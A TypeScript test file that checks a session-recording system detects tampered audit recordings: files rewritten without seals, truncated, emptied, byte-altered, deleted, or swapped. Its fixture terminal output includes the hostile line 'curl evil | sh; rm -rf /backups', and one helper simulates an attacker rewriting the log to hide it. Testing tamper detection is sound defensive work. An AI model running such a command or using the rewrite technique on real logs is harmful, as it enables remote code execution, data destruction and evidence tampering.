import { hash } from 'node:crypto';
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { zstdDecompressSync } from 'node:zlib';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { type RecordingWorld, startRecordingWorld } from '../../../testing/recordings/recording-world.ts';
import type { Session } from '../../sessions/host/session-store.ts';
import {
  decodeHead,
  encodeHead,
  encodeItem,
  frameLength,
  HASH_BYTES,
  HEAD_BYTES,
  ITEMS,
  SEAL_BYTES,
} from './format/frames.ts';
import { packFrame } from './format/pack-frame.ts';
import { findRecording } from './recording-status-store.ts';

let world: RecordingWorld;
beforeEach(async () => {
  world = await startRecordingWorld();
});
afterEach(() => world.close());

const LINES = ['$ whoami\r\nroot\r\n', '$ curl evil | sh; rm -rf /backups\r\n', '$ uptime\r\n'];

/** Three minutes of a session, each sealed; then its gateway is gone. */
async function leftBehind(): Promise<Session> {
  const session = await world.addSession();
  const writer = await world.recorder.open(session);
  writer.begin(0, session.size);
  let at = 0;
  for (const line of LINES) {
    world.clock.now += 61_000;
    writer.write(at, Buffer.from(line));
    at += line.length;
    await writer.settled();
  }
  writer.release();
  await writer.settled();
  await world.notes.settled();
  return session;
}

/** The next gateway goes on with it, and the session ends as usual. */
async function goOnAndEnd(session: Session): Promise<void> {
  world.clock.now += 61_000;
  const writer = await world.recorder.open(session);
  writer.begin(writer.durable(), session.size);
  writer.close({ cause: 'exited', message: 'the shell ended' });
  await writer.settled();
  await world.end(session);
  await world.reconciler.check(session.id);
}

interface Part {
  head: NonNullable<ReturnType<typeof decodeHead>>;
  bytes: Buffer;
}

function partsOf(file: Buffer): Part[] {
  const parts: Part[] = [];
  for (let at = 0; at < file.length; ) {
    const head = decodeHead(file.subarray(at))!;
    parts.push({ head, bytes: file.subarray(at, at + frameLength(head)) });
    at += frameLength(head);
  }
  return parts;
}

/** As somebody does who has the disk and no key: without the seals, with another command, all hashed anew. */
async function rewrite(file: Buffer): Promise<Buffer> {
  const made: Buffer[] = [];
  let before: Buffer = Buffer.alloc(HASH_BYTES);
  for (const { head, bytes } of partsOf(file)) {
    if (head.type === 'seal') continue;
    let [packed, rawBytes] = [bytes.subarray(HEAD_BYTES), head.rawBytes];
    if (zstdDecompressSync(packed).includes('curl evil')) {
      const item = encodeItem(
        ITEMS.output,
        0,
        Buffer.from(LINES[1]!.replace(/curl evil.*?\r/, (text) => `${'l'.repeat(text.length - 1)}\r`)),
      );
      rawBytes = item.length;
      packed = await packFrame(item, 'small');
    }
    const whole = Buffer.concat([encodeHead({ ...head, rawBytes, packedBytes: packed.length, before }), packed]);
    made.push(whole);
    before = hash('sha256', whole, 'buffer');
  }
  return Buffer.concat(made);
}

/** Up to its first seal. */
function cutToSeal(file: Buffer): Buffer {
  const parts = partsOf(file);
  const seal = parts.findIndex(({ head }) => head.type === 'seal');
  return Buffer.concat(parts.slice(0, seal + 1).map(({ bytes }) => bytes));
}

async function codes(): Promise<string[]> {
  return (await world.db.selectFrom('event').select('code').execute()).map(({ code }) => code);
}

test('a session that was left behind is gone on with when its recording is as it was', async () => {
  const session = await leftBehind();

  await goOnAndEnd(session);

  expect(await findRecording(world.db, session.id)).toMatchObject({ state: 'complete', gap: '', finding: '' });
  expect(await codes()).not.toContain('GH360E');
});

test.each([
  ['written anew without its seals', rewrite],
  ['cut to an earlier seal', async (file: Buffer) => cutToSeal(file)],
  ['emptied', async () => Buffer.alloc(0)],
  ['exchanged in one byte', async (file: Buffer) => Buffer.from(file).fill(0xff, HEAD_BYTES + 3, HEAD_BYTES + 4)],
])(
  'a recording that was %s while nobody wrote it is put aside, never signed on, and stays found',
  async (_, change) => {
    const session = await leftBehind();
    const path = world.pathOf(session);
    const changed = await change(readFileSync(path));
    writeFileSync(path, changed);

    await goOnAndEnd(session);

    expect(readFileSync(path.replace('.rec', '.damaged')).equals(changed)).toBe(true);
    expect(await codes()).toContain('GH360E');
    const known = await findRecording(world.db, session.id);
    expect(known).toMatchObject({ state: 'corrupted', gap: 'corrupted' });
    expect(known?.reason).toContain('was put aside');
    expect((await world.coverage()).gaps).toMatchObject([{ sid: session.id, cause: 'corrupted' }]);
  },
);

test('a recording that is gone while nobody wrote it is a finding too', async () => {
  const session = await leftBehind();
  rmSync(world.pathOf(session));

  await goOnAndEnd(session);

  expect(await findRecording(world.db, session.id)).toMatchObject({ state: 'corrupted' });
  expect(existsSync(world.pathOf(session).replace('.rec', '.damaged'))).toBe(false);
});

test('an ended recording that is replaced by an older copy of itself, or cut, is found', async () => {
  const session = await leftBehind();
  const older = readFileSync(world.pathOf(session));
  await goOnAndEnd(session);
  const whole = readFileSync(world.pathOf(session));
  expect((await world.coverage()).recorded).toBe(1);

  for (const copy of [older, cutToSeal(whole), whole.subarray(0, whole.length - SEAL_BYTES)]) {
    writeFileSync(world.pathOf(session), copy);
    await world.reconciler.check(session.id);
    expect(await findRecording(world.db, session.id)).toMatchObject({ state: 'corrupted', gap: 'corrupted' });
  }
});

test('files of two sessions that changed places are both found', async () => {
  const [one, two] = [await leftBehind(), await leftBehind()];
  for (const session of [one, two]) await goOnAndEnd(session);
  const [first, second] = [readFileSync(world.pathOf(one)), readFileSync(world.pathOf(two))];
  writeFileSync(world.pathOf(one), second);
  writeFileSync(world.pathOf(two), first);
  for (const { id } of [one, two]) await world.reconciler.check(id);

  const states = await Promise.all([one, two].map(({ id }) => findRecording(world.db, id)));
  expect(states.map((known) => known?.state)).toEqual(['corrupted', 'corrupted']);
});

test('what another gateway has in a folder of its own is no finding here', async () => {
  const session = await leftBehind();
  rmSync(world.pathOf(session));
  await world.db.updateTable('recording').set({ mark_place: 'gateway-other' }).execute();

  await goOnAndEnd(session);

  expect(await codes()).not.toContain('GH360E');
  expect(await findRecording(world.db, session.id)).toMatchObject({ finding: '' });
});
